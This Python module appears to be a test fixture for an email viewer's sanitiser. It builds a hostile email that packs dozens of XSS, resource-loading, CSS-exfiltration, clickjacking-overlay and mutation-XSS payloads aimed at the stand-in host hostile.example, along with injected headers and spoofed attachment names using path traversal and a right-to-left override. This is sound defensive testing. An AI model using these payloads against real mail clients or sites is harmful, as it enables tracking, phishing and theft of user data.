"""A mail that tries to load, run, send and take over whatever a page that shows it lets it.

Each trick points to an address of its own below ``ORIGIN``, so that whatever was loaded is known by
its host and the trick by its path: ``http://hostile.example/img-src``.
"""

from __future__ import annotations

from email.message import EmailMessage
from email.policy import SMTP
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterable

ORIGIN = "http://hostile.example"
SECRET = "the-secret-of-the-hostile-mail"
"""Stands in the plain text, the HTML, a file's name and its content, and in a header."""

_SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'

# What would run. Each writes its name into the page's title, into the address and to its host.
_RUNS = (
    "document.title='hostile';parent.document.title='hostile';top.location='{url}';fetch('{url}')"
)

TRICKS = {
    # what runs
    "script": "<script>" + _RUNS + "</script>",
    "script-src": '<script src="{url}"></script>',
    "script-module": '<script type="module">import "{url}"</script>',
    "script-case": "<ScRiPt/x>" + _RUNS + "</sCrIpT  y>",
    "speculation": '<script type="speculationrules">{{"prefetch":[{{"urls":["{url}"]}}],"prerender":[{{"urls":["{url}"]}}]}}</script>',
    "importmap": '<script type="importmap">{{"imports":{{"a":"{url}"}}}}</script>',
    "onerror": '<img src="x:" onerror="' + _RUNS + '">',
    "onload": '<body onload="' + _RUNS + '">',
    "autofocus": '<input autofocus onfocus="' + _RUNS + '">',
    "details": '<details open ontoggle="' + _RUNS + '">x</details>',
    "animation-event": '<style>@keyframes hostile{{from{{color:red}}}}</style><b style="animation:hostile 1s" onanimationstart="'
    + _RUNS
    + '">x</b>',
    "javascript-link": '<a id="javascript-link" href="javascript:' + _RUNS + '">javascript</a>',
    "javascript-frame": '<iframe src="javascript:' + _RUNS + '"></iframe>',
    "srcdoc": '<iframe srcdoc="&lt;script&gt;'
    + _RUNS
    + "&lt;/script&gt;&lt;img src='{url}'&gt;\"></iframe>",
    "data-frame": '<iframe src="data:text/html,<script>' + _RUNS + '</script>"></iframe>',
    "svg-script": _SVG + "<script>" + _RUNS + '</script><image href="{url}"/></svg>',
    "svg-onload": _SVG.replace(">", ' onload="' + _RUNS + '">') + "</svg>",
    # what would close what is around it
    "frame-end": '</iframe></iframe><img src="{url}"></textarea></title></noscript></style></xmp></template>',
    "attribute-end": '"\'></iframe><img src="{url}">',
    # what loads
    "img-src": '<img src="{url}" alt="">',
    "img-srcset": '<img srcset="{url} 1x, {url}?2 2x" alt="">',
    "img-lazy": '<img loading="eager" fetchpriority="high" src="{url}" alt="">',
    "img-relative-protocol": '<img src="//{host}/img-relative-protocol" alt="">',
    "img-entity": '<img src="&#104;ttp://{host}/img-entity" alt="">',
    "img-tab": '<img src="ht\ttp://{host}/img-tab" alt="">',
    "picture": '<picture><source srcset="{url}"><img alt=""></picture>',
    "lowsrc": '<img lowsrc="{url}" dynsrc="{url}" longdesc="{url}" alt="">',
    "input-image": '<input type="image" src="{url}">',
    "video": '<video autoplay src="{url}" poster="{url}?poster"><track default src="{url}?track"></video>',
    "audio": '<audio autoplay src="{url}"></audio>',
    "background": '<table background="{url}"><tr><td background="{url}?cell">x</td></tr></table>',
    "body-background": '<body background="{url}">',
    "object": '<object data="{url}" type="text/html"></object>',
    "embed": '<embed src="{url}">',
    "frame": '<iframe src="{url}"></iframe>',
    "portal": '<portal src="{url}"></portal><fencedframe src="{url}"></fencedframe>',
    "svg-image": _SVG + '<image href="{url}"/><image xlink:href="{url}?xlink"/></svg>',
    "svg-use": _SVG + '<use href="{url}#a"/><use xlink:href="{url}?xlink#a"/></svg>',
    "svg-filter": _SVG
    + '<filter id="f"><feImage href="{url}"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>',
    "svg-style": _SVG
    + "<style>@import url({url});rect{{fill:url({url}?fill#a)}}</style><rect width='9' height='9'/></svg>",
    "svg-foreign": _SVG
    + '<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="{url}"/></foreignObject></svg>',
    "math": '<math><maction actiontype="statusline" href="{url}" xlink:href="{url}?xlink"><mtext>x</mtext></maction></math>',
    "data-svg": "<img src=\"data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3Cimage href='{url}'/%3E%3C/svg%3E\" alt=\"\">",
    # style
    "css-link": '<link rel="stylesheet" href="{url}">',
    "css-import": '<style>@import "{url}";@import url("{url}?url");</style>',
    "css-background": '<div style="background-image:url({url});list-style-image:url({url}?list);cursor:url({url}?cursor),auto;border-image:url({url}?border)">x</div>',
    "css-image-set": "<div style=\"background:image-set('{url}' 1x);mask-image:url({url}?mask);shape-outside:url({url}?shape)\">x</div>",
    "css-escaped": "<div style=\"background:u\\72l('{url}')\">x</div>",
    "css-content": "<style>b::after{{content:url({url})}}</style><b>x</b>",
    "css-font": "<style>@font-face{{font-family:h;src:url({url})}}i{{font-family:h}}</style><i>x</i>",
    "css-exfiltration": '<style>input[value^="s"]{{background:url({url})}}</style><input value="secret">',
    "css-variable": "<style>:root{{--a:url({url})}}u{{background:var(--a)}}</style><u>x</u>",
    "css-overlay": '<div style="position:fixed;inset:0;z-index:2147483647;background:#f00"><a id="css-overlay" href="{url}" target="_top">You are logged out: log in</a></div>',
    "css-escape-frame": "<style>html,body{{position:fixed;inset:-9999px;width:99999px;height:99999px}}</style>",
    "css-expression": '<div style="width:expression(alert(1));behavior:url({url});-moz-binding:url({url}?binding)">x</div>',
    # what is fetched ahead
    "dns-prefetch": '<link rel="dns-prefetch" href="//dns-prefetch.{host}">',
    "preconnect": '<link rel="preconnect" href="http://preconnect.{host}">',
    "prefetch": '<link rel="prefetch" href="{url}"><link rel="prerender" href="{url}?prerender"><link rel="next" href="{url}?next">',
    "preload": '<link rel="preload" as="image" href="{url}" imagesrcset="{url}?set 1x"><link rel="modulepreload" href="{url}?module">',
    "icon": '<link rel="icon" href="{url}"><link rel="apple-touch-icon" href="{url}?touch"><link rel="manifest" href="{url}?manifest">',
    "meta-link": '<meta http-equiv="Link" content="&lt;{url}&gt;; rel=preload; as=image">',
    # what leads elsewhere
    "meta-refresh": '<meta http-equiv="refresh" content="0; url={url}">',
    "meta-cookie": '<meta http-equiv="Set-Cookie" content="hostile=1">',
    "meta-csp": '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    "meta-referrer": '<meta name="referrer" content="unsafe-url">',
    "base": '<base href="http://{host}/base/" target="_top"><img src="base-image" alt="">',
    "link": '<a id="link" href="{url}">a link</a>',
    "link-top": '<a id="link-top" href="{url}" target="_top">to the top</a>',
    "link-parent": '<a id="link-parent" href="{url}" target="_parent">to the parent</a>',
    "link-blank": '<a id="link-blank" href="{url}" target="_blank" rel="opener">a new window</a>',
    "link-ping": '<a id="link-ping" href="#here" ping="{url}">ping</a>',
    "link-download": '<a id="link-download" href="{url}" download>download</a>',
    "link-same-site": '<a id="link-same-site" href="/admin/logout/">on this site</a>',
    "link-svg": _SVG + '<a id="link-svg" xlink:href="{url}"><text y="20">svg</text></a></svg>',
    "link-animated": _SVG
    + '<a id="link-animated"><animate attributeName="&#104;ref" values="{url}"/><set attributeName="href" to="{url}"/><text y="20">animated</text></a></svg>',
    "link-area": '<map name="m"><area id="link-area" href="{url}" shape="default"></map><img usemap="#m" width="9" height="9" alt="">',
    "form": '<form id="form" action="{url}" method="post"><input name="password"><button id="form-button">send</button></form>',
    "form-get": '<form action="{url}" target="_top"><button id="form-get-button">send</button></form>',
    "form-attribute": '<button id="form-attribute" form="form" formaction="{url}" formtarget="_top">send</button>',
    "form-dialog": '<form method="dialog"><button formmethod="get" formaction="{url}">send</button></form>',
    "keygen": '<keygen name="k"><isindex action="{url}" prompt="x">',
    # what swallows what is behind it, or all that is
    "noscript": "<noscript><p title=\"</noscript><img src='{url}'>\"></noscript>",
    "template": '<template shadowrootmode="open"><img src="{url}"><slot></slot></template>',
    "object-applet": '<applet code="x" archive="{url}"></applet><object classid="x" codebase="{url}"><param name="movie" value="{url}"></object>',
    "frameset": '<frameset><frame src="{url}"></frameset>',
    "mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src={url} onerror=1&gt;">',
    "comment": '<!--><img src="{url}">--><!--[if gte IE 4]><img src="{url}"><![endif]-->',
    "document-end": '</body></html><!doctype html><html><body><img src="{url}">',
    "open-quote": "<img src='{url}?",
}


def hostile_html(origin: str = ORIGIN, names: Iterable[str] = TRICKS) -> str:
    """Return HTML with the tricks named, by default all, each pointing below ``origin``."""
    host = origin.partition("//")[2]
    snippets = (TRICKS[name].format(url=f"{origin}/{name}", host=host) for name in names)
    return (
        f"<!DOCTYPE html><html><head><title>{SECRET}</title></head><body>"
        f'<p id="here">Here it is: {SECRET}</p><p><img src="cid:logo@hostile.example" alt="logo">'
        '<img src="cid:evil@hostile.example" alt="evil"></p>' + "\n".join(snippets)
    )


def hostile_message(origin: str = ORIGIN, names: Iterable[str] = TRICKS) -> EmailMessage:
    """Return a mail with hostile headers, images and attachments, and the tricks named in its HTML.

    All of them on one page hide some: an overlay is over each link.
    """
    mail = EmailMessage(policy=SMTP.clone(utf8=True))
    mail["Subject"] = "</title><script>alert(1)</script><img src=" + origin + "/subject>"
    mail["From"] = '"<img src=' + origin + '/from>" <from@hostile.example>'
    mail["To"] = "to@hostile.example"
    mail["Message-ID"] = "<hostile@hostile.example>"
    mail["X-Secret"] = f"<script src={origin}/header></script> {SECRET}"
    mail["Link"] = f"<{origin}/link-header>; rel=preload; as=image"
    mail["Refresh"] = f"0; url={origin}/refresh-header"
    mail["Content-Security-Policy"] = "default-src *"
    mail.set_content(f"</pre><script>alert(1)</script><img src={origin}/text> {SECRET}\n")
    mail.add_alternative(hostile_html(origin, names), subtype="html")
    html = mail.get_payload()[1]
    html.add_related(_PNG, "image", "png", cid="<logo@hostile.example>")
    svg = f'{_SVG}<script>alert(1)</script><image href="{origin}/cid-svg"/></svg>'
    html.add_related(svg.encode(), "image", "svg+xml", cid="<evil@hostile.example>")
    for number, (name, kind) in enumerate(_FILES):
        content = f"<script src={origin}/attachment-{number}></script> {SECRET}".encode()
        main, _, sub = kind.partition("/")
        mail.add_attachment(content, main, sub, filename=name)
    return mail


_FILES = (
    ("page.html", "text/html"),
    ("picture.svg", "image/svg+xml"),
    ("feed.xml", "application/xhtml+xml"),
    ("script.js", "text/javascript"),
    ("../../../etc/passwd", "application/octet-stream"),
    ("C:\\Windows\\system32\\evil.exe", "application/x-msdownload"),
    ('quote".txt; filename="evil.html', "text/plain"),
    ("</script><img src=http://hostile.example/name>.png", "image/png"),
    ("invoice\u202efdp.exe", "application/pdf"),
    (f"{SECRET}.csv", "text/csv"),
)

_PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de"
    "0000000c49444154789c63f8cfc0000003010100c9fe92ef0000000049454e44ae426082"
)
"""One pixel."""
